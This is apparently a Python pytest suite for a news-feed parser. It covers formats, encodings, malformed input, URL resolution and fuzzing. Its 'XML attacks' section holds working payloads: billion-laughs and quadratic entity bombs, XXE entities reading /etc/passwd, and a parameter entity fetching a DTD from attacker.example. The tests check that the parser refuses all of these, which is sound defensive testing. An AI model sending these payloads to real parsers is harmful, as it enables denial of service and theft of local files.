"""parse_feed on small hand-written feeds in tests/data/feeds/ and generated attack documents."""

from __future__ import annotations

import hashlib
import pickle
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsterm.core.errors import ParseError
from newsterm.core.models import Article, Enclosure, ParsedFeed
from newsterm.core.sources.feeds import REFUSED_ENTITIES, parse_feed, resolve_url
from newsterm.core.text import CATEGORIES_MAX, ENCLOSURES_MAX, TITLE_MAX, has_control

DATA = Path(__file__).resolve().parents[1] / "data" / "feeds"
BASE = "https://fetched.example.com/path/feed.xml"


def parse(name: str, **kwargs: str) -> ParsedFeed:
    return parse_feed((DATA / name).read_bytes(), "src", **kwargs)


def by_id(feed: ParsedFeed) -> dict[str, Article]:
    return {article.key.id: article for article in feed.articles}


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def rss(items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return (
        f'{head}<rss version="2.0"><channel><title>T</title>'
        f"<link>https://x.example/</link>{items}</channel></rss>"
    ).encode()


# --- formats ---------------------------------------------------------------------------


def test_rss091_with_netscape_doctype_is_stripped_not_refused() -> None:
    feed = parse("rss091.xml")
    assert feed.title == "Old School News"
    assert feed.link == "http://oldschool.example.com/"
    assert feed.warning is None
    first, second = feed.articles
    assert first.key.id == "http://oldschool.example.com/stories/1.html"
    assert first.title == "First story"
    assert first.content == "The first story of the day."
    # a relative item link resolves against the channel link
    assert second.url == "http://oldschool.example.com/stories/2.html"
    assert second.section == ()


def test_rss10_rdf() -> None:
    feed = parse("rss10.rdf")
    assert feed.title == "RDF Gazette"
    alpha, beta = feed.articles
    assert alpha.key.source == "src"
    assert alpha.key.id == "https://rdf.example.org/a"
    assert alpha.author == "Ada Lovelace"
    assert alpha.categories == ("Science",)
    # dc:date becomes `updated` in feedparser; +01:00 converted to UTC
    assert alpha.updated == utc(2024, 3, 1, 7, 30)
    assert alpha.updated.tzinfo is UTC
    assert beta.updated == utc(2024, 3, 2, 10, 0)


def test_rss20_full_item() -> None:
    feed = parse("rss20.xml")
    assert feed.title == "The Daily Example"  # whitespace collapsed
    item = by_id(feed)["tag:news.example.com,2024:full"]  # guid whitespace stripped
    assert item.title == "Full item"
    assert item.url == "https://news.example.com/2024/full"
    # content:encoded is preferred over the description, which stays the summary
    assert item.content == "<p>The <b>full</b> body.</p>"
    assert item.content_type == "html"
    assert item.summary == "Short teaser."
    assert item.author == "editor@news.example.com (Ed Itor)"
    assert item.published == utc(2024, 3, 5, 13, 30)
    assert item.categories == ("World", "Politics")  # duplicate category once
    assert item.enclosures == (
        Enclosure("https://cdn.example.com/audio.mp3", "audio/mpeg", 12345),
        # ftp:// dropped; a relative url resolved; a bad length becomes None
        Enclosure("https://news.example.com/media/picture.jpg", "image/jpeg", None),
    )


def test_rss20_ids_duplicates_and_fallbacks() -> None:
    feed = parse("rss20.xml")
    ids = [article.key.id for article in feed.articles]
    assert len(ids) == len(set(ids)) == 7  # 8 items, one duplicate guid dropped
    first = by_id(feed)["tag:news.example.com,2024:full"]
    assert first.title == "Full item"  # the first of the two with that guid is kept
    # no guid: the link is the id, the url is resolved against the channel link
    no_guid = by_id(feed)["/2024/no-guid"]
    assert no_guid.url == "https://news.example.com/2024/no-guid"
    # neither guid nor link: a hash of title and date
    digest = hashlib.sha1(b"Neither guid nor link\x00Thu, 07 Mar 2024 09:00:00 GMT").hexdigest()
    hashed = by_id(feed)["sha1:" + digest]
    assert hashed.url is None
    assert hashed.published == utc(2024, 3, 7, 9, 0)


def test_rss20_untitled_absurd_dates_and_guid_that_is_no_url() -> None:
    items = by_id(parse("rss20.xml"))
    untitled = items["untitled-1"]
    assert untitled.title == "An item without a title gets one from the first words of…"
    assert untitled.url is None  # a guid like "untitled-1" is not a link
    assert items["ancient"].published is None  # 1900
    assert items["future"].published is None  # 2100
    assert items["ancient"].title == "Ancient"


def test_controls_and_bidi_removed_and_unsafe_links_dropped() -> None:
    evil = by_id(parse("rss20.xml"))["evil"]
    assert "\u202e" not in evil.title
    assert evil.title.startswith("Eviltitle")
    assert evil.author == "Mallory"
    assert evil.url is None  # javascript: never kept
    assert evil.content_type == "html"


def test_raw_control_bytes_recovered_and_removed() -> None:
    body = rss("<item><title>Bell\x07 and \x1b[31mred</title><guid>g</guid></item>")
    feed = parse_feed(body, "src")
    (article,) = feed.articles
    assert article.title == "Bell and [31mred"
    assert feed.warning == "malformed feed, 1 items recovered"


def test_atom03() -> None:
    feed = parse("atom03.xml")
    assert feed.title == "Atom Zero Three"
    (entry,) = feed.articles
    assert entry.key.id == "tag:atom03.example.net,2004:legacy"
    assert entry.url == "http://atom03.example.net/2004/01/01/legacy"
    assert entry.published == utc(2004, 1, 1, 17, 0)
    assert entry.updated == utc(2004, 1, 2, 9, 0)
    assert entry.content == "<p>Legacy <em>content</em>.</p>"
    assert entry.summary == "Summary of the legacy entry."
    assert entry.author == "Joe Legacy"  # inherited from the feed


def test_atom10_xml_base_and_content_types() -> None:
    feed = parse("atom10.xml", base_url=BASE)
    assert feed.title == "Blog <Example>"  # type="html" title turned into text
    assert feed.link == "https://blog.example.org/"
    rich, summary_only, xhtml = feed.articles
    # entry xml:base "/posts/2024/" on top of the feed's xml:base
    assert rich.url == "https://blog.example.org/posts/2024/hello.html"
    assert rich.enclosures == (
        Enclosure("https://blog.example.org/files/talk.pdf", "application/pdf", 2048),
    )
    assert rich.published == utc(2024, 4, 30, 14, 0)
    assert rich.updated == utc(2024, 5, 1, 8, 0)
    assert rich.author == "Grace Hopper"
    assert rich.categories == ("compilers", "History")
    assert rich.content_type == "html"
    assert rich.content == '<p>Rich <a href="other.html">content</a>.</p>'
    assert rich.summary == "A plain text summary."
    # no content: the text summary is the body
    assert summary_only.url == "https://blog.example.org/feeds/second.html"
    assert summary_only.content == "Only a summary, as text."
    assert summary_only.content_type == "text"
    assert summary_only.summary == ""
    assert summary_only.published is None
    assert summary_only.updated == utc(2024, 5, 1, 9, 0)
    assert xhtml.content_type == "html"
    assert "<strong>XHTML</strong>" in xhtml.content


def test_relative_links_resolve_against_base_url_without_feed_link() -> None:
    body = b'<rss version="2.0"><channel><title>T</title><item><title>a</title><link>a.html</link></item></channel></rss>'
    (article,) = parse_feed(body, "src", base_url=BASE).articles
    assert article.url == "https://fetched.example.com/path/a.html"
    (unresolved,) = parse_feed(body, "src").articles
    assert unresolved.url is None
    assert unresolved.key.id == "a.html"


# --- encodings -------------------------------------------------------------------------


def test_iso_8859_1_declared() -> None:
    feed = parse("latin1.xml")
    assert feed.title == "Café du Monde"
    (article,) = feed.articles
    assert article.title == "Été à Paris"
    assert article.content == "Crème brûlée et naïveté."


def test_windows_1251_declared() -> None:
    feed = parse("cp1251.xml")
    assert feed.title == "Новости дня"
    (article,) = feed.articles
    assert article.title == "Привет, мир"
    assert article.content == "Съешь же ещё этих мягких французских булок."


def test_http_charset_used_when_document_declares_none() -> None:
    body = rss("<item><title>Привет</title><guid>p</guid></item>", head="").decode()
    encoded = body.encode("windows-1251")
    feed = parse_feed(encoded, "src", content_type="text/xml; charset=windows-1251")
    assert feed.articles[0].title == "Привет"


@pytest.mark.parametrize(
    "content_type", ["text/xml; charset=bogus-charset", "text/html", "application/octet-stream"]
)
def test_odd_content_types_never_break_parsing(content_type: str) -> None:
    feed = parse_feed((DATA / "latin1.xml").read_bytes(), "src", content_type=content_type)
    assert feed.articles[0].title == "Été à Paris"


def test_non_ascii_encoding_name_is_ignored_not_a_crash() -> None:
    # feedparser itself raises UnicodeDecodeError on such a declaration.
    body = rss("<item><title>Caf\u00e9</title><guid>c</guid></item>").replace(
        b'encoding="utf-8"', b'encoding="\xedUTF-8"'
    )
    feed = parse_feed(body, "src")
    assert feed.articles[0].title == "Café"


def test_feedparser_crash_becomes_parse_error() -> None:
    # A namespace URI holding a no-break space makes feedparser's strict parser raise
    # ValueError; it must surface as a ParseError like any unreadable feed.
    body = (
        '<rss version="2.0" xmlns:x="http://a\u00a0b/"><channel><title>t</title>'
        "<item><x:y>1</x:y><title>z</title></item></channel></rss>"
    ).encode()
    with pytest.raises(ParseError, match=r"^could not parse the feed \(ValueError\)$"):
        parse_feed(body, "src")


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32(codec: str) -> None:
    text = (DATA / "rss091.xml").read_text("latin-1").replace("ISO-8859-1", codec.upper())
    body = text.replace("First story", "Première ☃").encode(codec)
    feed = parse_feed(body, "src")
    assert feed.title == "Old School News"
    assert feed.articles[0].title == "Première ☃"


def test_utf8_bom_and_leading_whitespace() -> None:
    body = b"\xef\xbb\xbf \n\t" + rss("<item><title>BOM</title><guid>b</guid></item>", head="")
    assert parse_feed(body, "src").articles[0].title == "BOM"


def test_format_sniffed_from_content_not_extension() -> None:
    # An Atom document in a file named .rss, and JSON in a body served as XML.
    atom = (DATA / "atom10.xml").read_bytes()
    assert parse_feed(atom, "feed.rss", content_type="application/rss+xml").title == (
        "Blog <Example>"
    )
    json_body = (DATA / "jsonfeed10.json").read_bytes()
    assert parse_feed(json_body, "src", content_type="text/xml").title == "JSON One"


# --- not feeds -------------------------------------------------------------------------


@pytest.mark.parametrize("body", [b"", b"   \n\t ", b"\xef\xbb\xbf\n"])
def test_empty_body(body: bytes) -> None:
    with pytest.raises(ParseError, match="^empty body$"):
        parse_feed(body, "src")


def test_html_page() -> None:
    with pytest.raises(ParseError) as info:
        parse("page.html", content_type="text/html; charset=utf-8")
    assert str(info.value) == "not a feed: got an HTML page"


def test_xhtml_doctype_on_an_rss_root_is_still_a_feed() -> None:
    head = (
        '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"'
        ' "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
    )
    feed = parse_feed(rss("<item><title>ok</title><guid>1</guid></item>", head=head), "s")
    assert [a.title for a in feed.articles] == ["ok"]


def test_wrong_root_element() -> None:
    with pytest.raises(ParseError) as info:
        parse_feed(b'<?xml version="1.0"?><catalog><book>x</book></catalog>', "src")
    assert str(info.value) == "not a feed: unexpected root element <catalog>"


def test_plain_text() -> None:
    with pytest.raises(ParseError, match="^not a feed: neither XML nor JSON$"):
        parse_feed(b"Service temporarily unavailable", "src")


def test_truncated_feed_without_items() -> None:
    with pytest.raises(ParseError, match="^malformed feed: malformed XML at line 1"):
        parse_feed(b'<?xml version="1.0"?><rss version="2.0"><channel><title>T', "src")


def test_malformed_feed_with_items_recovered() -> None:
    body = rss(
        "<item><title>a</title><guid>1</guid><category>Plants & Animals</category></item>"
        "<item><title>b</title><guid>2</guid></item>"
    )
    feed = parse_feed(body, "src")
    assert [a.title for a in feed.articles] == ["a", "b"]
    assert feed.warning == "malformed feed, 2 items recovered"


def test_json_that_is_not_json_feed() -> None:
    with pytest.raises(ParseError, match="^not a feed: JSON that is not JSON Feed$"):
        parse_feed(b'{"rss": {"channel": {"title": "x", "item": []}}}', "src")
    with pytest.raises(ParseError, match="^not a feed: JSON that is not JSON Feed$"):
        parse_feed(b"[1, 2, 3]", "src")


# --- XML attacks -----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><guid>1</guid></item></channel></rss>
"""


def _quadratic() -> str:
    # One 50,000-char entity used 50,000 times: 2.5 GB if expanded, 250 KB on the wire.
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "'
        + "a" * 50_000
        + '">]>\n<rss version="2.0"><channel><title>t</title><item><title>'
        + "&a;" * 50_000
        + "</title><guid>1</guid></item></channel></rss>"
    )


XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><guid>1</guid></item></channel></rss>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>
"""

DOCTYPE_SYSTEM_FILE = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "file:///etc/passwd">
<rss version="2.0"><channel><title>t</title><item><title>x</title></item></channel></rss>
"""

# A comment holding "<a" before the DOCTYPE, and junk before the prolog: both must not
# hide the declarations from the guard.
HIDDEN_BEHIND_COMMENT = '<!-- <a --><!DOCTYPE rss [<!ENTITY e "x">]><rss><channel/></rss>'
BEHIND_JUNK = 'Warning: oops\n<!DOCTYPE rss [<!ENTITY e "x">]><rss><channel/></rss>'


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        _quadratic(),
        XXE,
        PARAMETER_ENTITY,
        DOCTYPE_SYSTEM_FILE,
        HIDDEN_BEHIND_COMMENT,
        BEHIND_JUNK,
    ],
    ids=[
        "billion-laughs",
        "quadratic",
        "xxe",
        "parameter-entity",
        "doctype-file",
        "comment",
        "junk",
    ],
)
def test_entity_attacks_refused_quickly(document: str) -> None:
    start = time.monotonic()
    with pytest.raises(ParseError) as info:
        parse_feed(document.encode(), "src")
    assert str(info.value) == REFUSED_ENTITIES
    # a safety net against a hang (expansion takes minutes), not a benchmark
    assert time.monotonic() - start < 10


@pytest.mark.parametrize("codec", ["utf-16", "utf-32"])
def test_entity_attacks_refused_in_wide_encodings(codec: str) -> None:
    with pytest.raises(ParseError, match="^refused"):
        parse_feed(BILLION_LAUGHS.encode(codec), "src")


def test_wide_document_with_plain_doctype_is_stripped() -> None:
    text = (DATA / "rss091.xml").read_text("latin-1").replace("ISO-8859-1", "UTF-16")
    feed = parse_feed(text.encode("utf-16"), "src")
    assert feed.warning is None
    assert len(feed.articles) == 2


# --- caps, helpers, pickling -----------------------------------------------------------


def test_caps_on_categories_enclosures_and_title() -> None:
    categories = "".join(f"<category>c{n}</category>" for n in range(CATEGORIES_MAX + 10))
    enclosures = "".join(
        f'<enclosure url="https://e.example/{n}.mp3" type="audio/mpeg" length="{n}"/>'
        for n in range(ENCLOSURES_MAX + 10)
    )
    title = "word " * TITLE_MAX
    body = rss(f"<item><title>{title}</title><guid>1</guid>{categories}{enclosures}</item>")
    (article,) = parse_feed(body, "src").articles
    assert len(article.categories) == CATEGORIES_MAX
    assert article.categories[0] == "c0"
    assert len(article.enclosures) == ENCLOSURES_MAX
    assert article.enclosures[0] == Enclosure("https://e.example/0.mp3", "audio/mpeg", 0)
    assert len(article.title) == TITLE_MAX
    assert article.title.endswith("…")


def test_atom_enclosures_capped() -> None:
    links = "".join(
        f'<link rel="enclosure" href="https://e.example/{n}.mp3" type="audio/mpeg"/>'
        for n in range(ENCLOSURES_MAX + 10)
    )
    body = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        f"<entry><id>1</id><title>e</title>{links}</entry></feed>"
    ).encode()
    (article,) = parse_feed(body, "src").articles
    assert len(article.enclosures) == ENCLOSURES_MAX
    assert article.enclosures[0].url == "https://e.example/0.mp3"


def test_long_ids_are_hashed() -> None:
    long_id = "x" * 5000
    item = f"<item><title>Long</title><guid>{long_id}</guid></item>"  # an id alone is junk
    (article,) = parse_feed(rss(item), "src").articles
    assert article.key.id == "sha1:" + hashlib.sha1(long_id.encode()).hexdigest()


def test_every_string_is_clean() -> None:
    for name in ("rss20.xml", "atom10.xml", "rss091.xml"):
        for article in parse(name).articles:
            for value in (article.title, article.content, article.summary, article.key.id):
                assert not has_control(value)


def test_result_pickles() -> None:
    feed = parse("rss20.xml", base_url=BASE)
    assert pickle.loads(pickle.dumps(feed)) == feed


@pytest.mark.parametrize(
    ("value", "base", "expected"),
    [
        ("https://a.example/x", None, "https://a.example/x"),
        ("/x", "https://a.example/y/z", "https://a.example/x"),
        ("//cdn.example/x", None, "https://cdn.example/x"),
        ("//cdn.example/x", "http://a.example/", "http://cdn.example/x"),
        ("mailto:a@b.example", None, "mailto:a@b.example"),
        ("javascript:alert(1)", "https://a.example/", None),
        ("data:text/html,hi", None, None),
        ("file:///etc/passwd", "https://a.example/", None),
        ("relative/only", None, None),
        ("  https://a.example/spaced  ", None, "https://a.example/spaced"),
        ("https://a.example/has space", None, None),
        ("", None, None),
        (None, None, None),
    ],
)
def test_resolve_url(value: str | None, base: str | None, expected: str | None) -> None:
    assert resolve_url(value, base) == expected


# --- fuzzing: anything but ParseError is a bug -------------------------------------------

RSS20 = (DATA / "rss20.xml").read_bytes()
JSON10 = (DATA / "jsonfeed10.json").read_bytes()


def _parse_or_refuse(body: bytes) -> None:
    try:
        feed = parse_feed(body, "fuzz", base_url=BASE)
    except ParseError as exc:
        assert str(exc) and "\n" not in str(exc)
        return
    for article in feed.articles:
        for value in (article.title, article.content, article.summary, article.key.id):
            assert not has_control(value)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=600))
def test_random_bytes(data: bytes) -> None:
    _parse_or_refuse(data)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from([RSS20, JSON10]),
    st.integers(min_value=0, max_value=len(RSS20)),
    st.binary(max_size=12),
)
def test_truncated_or_spliced_feeds(base: bytes, cut: int, junk: bytes) -> None:
    _parse_or_refuse(base[:cut] + junk + base[cut : cut + 200])
